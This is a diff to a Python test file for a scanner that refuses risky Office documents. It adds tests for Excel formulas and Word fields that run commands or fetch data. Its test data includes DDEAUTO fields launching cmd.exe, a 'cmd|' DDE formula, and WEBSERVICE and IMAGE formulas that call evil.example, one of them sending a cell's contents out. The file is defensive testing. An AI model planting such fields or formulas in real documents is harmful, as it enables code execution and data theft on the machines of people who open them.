@@ -24,6 +24,11 @@ def refusal(content: bytes) -> str:
     return str(caught.value)
 
 
+def formula(written: str) -> bytes:
+    sheet = f'<worksheet xmlns="s"><sheetData><row><c><f>{written}</f></c></row></sheetData></worksheet>'
+    return office("excel", parts={"xl/worksheets/sheet1.xml": sheet})
+
+
 def field(*pieces: str) -> bytes:
     begin, end = (
         '<w:r><w:fldChar w:fldCharType="begin"/></w:r>',
@@ -89,18 +94,41 @@ def test_files_inside_files_are_refused(content: bytes) -> None:
     "content",
     [
         linking("image", "http://127.0.0.1:9/pixel.png"),
-        linking("attachedTemplate", "https://evil.example/t.dotm"),
         linking("image", "file://server/share/a.png", "external"),
         office("excel", parts={"xl/externalLinks/externalLink1.xml": "<externalLink/>"}),
         office("excel", parts={"xl/connections.xml": "<connections/>"}),
-        field("DDEAUTO c:\\\\windows\\\\cmd.exe"),
-        field("DD", "EAU", "TO cmd"),
         field('INCLUDEPICTURE "http://127.0.0.1:9/a.png"'),
-        word_saying('<w:fldSimple w:instr=" DDE cmd "/>'),
+        field('LINK Excel.Sheet.12 "budget.xlsx" "Sheet1!R1C1" \\a'),
+        field('RD "//server/share/other.docx"'),
     ],
 )
-def test_files_that_fetch_or_start_something_are_refused(content: bytes) -> None:
+def test_files_that_fetch_something_are_refused(content: bytes) -> None:
     assert refusal(content) == parts.LINKED
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        field("DDEAUTO c:\\\\windows\\\\cmd.exe"),
+        field("DD", "EAU", "TO cmd"),
+        word_saying('<w:fldSimple w:instr=" DDE cmd "/>'),
+        formula("cmd|'/c calc'!A0"),
+        formula('_xlfn.WEBSERVICE("http://evil.example/?"&amp;A1)'),
+        formula('1+ RTD("a",,"b")'),
+        formula('_xlfn.IMAGE("http://evil.example/a.png")'),
+    ],
+)
+def test_commands_that_run_when_it_is_opened_are_refused(content: bytes) -> None:
+    assert refusal(content) == parts.COMMAND
+
+
+@pytest.mark.parametrize("written", ["SUM(A1:A9)", "COUNTIF(Image!A1:A9,1)", "IMAGES(1)", "recall(2)", '"a|b"&amp;A1'])
+def test_a_formula_that_only_reckons_is_taken(written: str) -> None:
+    assert packages.examine(formula(written))[0]["kind"] == "excel"
+
+
+def test_a_template_on_another_computer_is_refused() -> None:
+    assert refusal(linking("attachedTemplate", "https://evil.example/t.dotm")) == parts.TEMPLATE
 
 
 @pytest.mark.parametrize("target", ["file:///C:/Users/ada/a.docx", "\\\\server\\a", "javascript:alert(1)", "//x"])
